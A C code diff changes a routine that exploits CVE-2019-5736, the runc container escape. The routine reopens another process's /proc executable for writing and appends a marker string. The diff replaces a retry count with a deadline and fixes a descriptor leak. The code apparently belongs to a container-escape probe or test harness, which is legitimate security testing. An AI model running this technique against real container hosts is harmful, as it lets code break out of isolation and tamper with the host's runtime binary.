@@ -211,19 +211,19 @@ static int attempt_release_agent(void) {
 
 /* Writes to the program of whoever comes in by executing what leads to itself (CVE-2019-5736): it can be opened for reading
  * while it runs, and written to through that descriptor once it has ended. */
-static int overwrite_program(int pid) {
+static int overwrite_program(int pid, time_t end) {
     char path[64], program[4096] = "";
     snprintf(path, sizeof path, "/proc/%d/exe", pid);
     if (readlink(path, program, sizeof program - 1) < 0 || !strstr(program, word(0))) return -1;
     int held = open(path, O_RDONLY);
     if (held < 0) return -1;
     snprintf(path, sizeof path, "/proc/self/fd/%d", held);
-    for (int tries = 0; tries < 100000; tries++) {
+    while (time(NULL) < end) {
         int file = open(path, O_WRONLY | O_APPEND);
         if (file >= 0) return write(file, "#overwritten", 12) == 12 ? 0 : -1;
         if (errno != ETXTBSY) return -1;
-        usleep(10);
     }
+    close(held);
     return -1;
 }
 static int attempt_overwrite(void) {
@@ -231,7 +231,7 @@ static int attempt_overwrite(void) {
     printf("waiting\n");
     fflush(stdout);
     for (int pid = 2; time(NULL) < end; pid = pid < 300 ? pid + 1 : 2)
-        if (pid != getpid() && overwrite_program(pid) == 0) return 0;
+        if (pid != getpid() && overwrite_program(pid, end) == 0) return 0;
     return -1;
 }
 
